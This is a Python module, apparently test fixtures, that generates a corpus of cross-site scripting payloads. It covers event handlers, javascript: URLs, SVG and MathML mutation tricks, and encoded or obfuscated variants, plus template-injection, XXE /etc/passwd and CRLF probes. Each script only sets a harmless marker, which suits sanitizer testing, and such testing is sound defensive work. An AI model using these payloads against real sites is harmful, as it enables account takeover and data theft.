"""What a hostile article or reader writes, so that a browser runs it: each marks the window it runs in."""

from itertools import product

DO = "top.ran=1"

# What runs something by itself, or is one click away from it.
ELEMENTS = (
    "<script>{do}</script>",
    "<script src=data:text/javascript,{do}></script>",
    "<script type=module>{do}</script>",
    "<img src=x onerror={do}>",
    "<img src=x:x oNeRrOr={do}//",
    "<svg onload={do}>",
    "<svg/onload={do}//",
    "<svg><script>{do}</script></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{do}'><text y=20>құпия</text></a></svg>",
    "<math><mtext><img src=x onerror={do}></mtext></math>",
    "<iframe src='javascript:{do}'></iframe>",
    "<iframe srcdoc='<script>{do}</script>'></iframe>",
    "<object data='javascript:{do}'></object>",
    "<embed src='javascript:{do}'>",
    "<input autofocus onfocus={do}>",
    "<select autofocus onfocus={do}>",
    "<details open ontoggle={do}>",
    "<video><source onerror={do}></video>",
    "<audio src=x onerror={do}></audio>",
    "<body onload={do}>",
    "<style onload={do}></style>",
    "<style>@import 'javascript:{do}';*{{background:url(javascript:{do})}}</style>",
    "<link rel=stylesheet href=x onerror={do}>",
    "<meta http-equiv=refresh content='0;url=javascript:{do}'>",
    "<base href='javascript:{do}//'>",
    "<form action='javascript:{do}'><button autofocus>құпия</button></form>",
    "<a href='javascript:{do}' autofocus onfocus={do}>құпия</a>",
    "<p style='animation-name:x' onanimationstart={do}>",
    "<noscript><p title='</noscript><img src=x onerror={do}>'>",
    "<template><script>{do}</script></template>",
    "<mark onpointerenter={do}>құпия</mark>",
)
# What ends whatever the text may stand in.
BEFORE = ("", '">', "'>", "</title>", "</textarea></script>", "--></mark>")
# What is no element where it stands, until something decodes it once too often.
WORDS = (
    '" autofocus onfocus="{do}',
    "' autofocus onfocus='{do}",
    "` onfocus=`{do}",
    "javascript:{do}",
    "JaVaScRiPt:{do}",
    " javascript:{do}",
    "java\tscript:{do}",
    "data:text/html,<script>{do}</script>",
    "vbscript:{do}",
    "//localhost/%0d%0aX: y",
    "';{do}//",
    '";{do}//',
    "\\';{do}//",
    "${{{do}}}",
    "{{{{ 7*7 }}}}",
    "{{% print({do}) %}}",
    "{{{{ config.__class__.__init__.__globals__ }}}}",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "&#60;script&#62;{do}&#60;/script&#62;",
    "&amp;lt;img src=x onerror={do}&amp;gt;",
    "%3Cscript%3E{do}%3C/script%3E",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "＜script＞{do}＜/script＞",
    "+ADw-script+AD4-{do}+ADw-/script+AD4-",
    "<scr\u00adipt>{do}</scr\u00adipt>",
    "<scr<script>ipt>{do}</scr</script>ipt>",
    "]]><script>{do}</script>",
    "<![CDATA[<script>{do}</script>]]>",
    "<?xml-stylesheet href='javascript:{do}'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "\u202e<script>{do}</script>",
    "\u2028{do}\u2029",
)
PAYLOADS = [before + text.format(do=DO) for before, text in product(BEFORE, ELEMENTS)]
PAYLOADS += [text.format(do=DO) for text in WORDS]
